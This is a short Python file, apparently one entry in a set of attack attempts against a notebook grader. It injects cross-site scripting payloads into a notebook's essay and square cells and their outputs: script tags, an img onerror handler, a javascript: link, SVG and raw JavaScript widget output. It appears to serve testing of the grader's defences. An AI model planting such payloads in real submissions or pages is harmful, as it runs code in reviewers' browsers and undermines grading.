# tries: puts scripts, frames and widgets into Markdown and outputs, for the grader's browser
# group: form
# verdict: graded
# points: full

SCRIPT = "<script>document.title = 'xent-loot'</script><img src=x onerror='alert(1)'>"


def build(notebook, folder):
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/html": SCRIPT,
              "application/javascript": "alert(1)", "image/svg+xml": f"<svg>{SCRIPT}</svg>"}
    for cell in notebook["cells"]:
        if cell["id"] == "essay":
            cell["source"] = f"{SCRIPT}\n\n[link](javascript:alert(1))"
        if cell["id"] == "square":
            cell["outputs"] = [{"output_type": "display_data", "data": widget, "metadata": {}}]
            cell["source"] += f"\n\nfrom IPython.display import display\ndisplay({widget!r}, raw=True)\n"
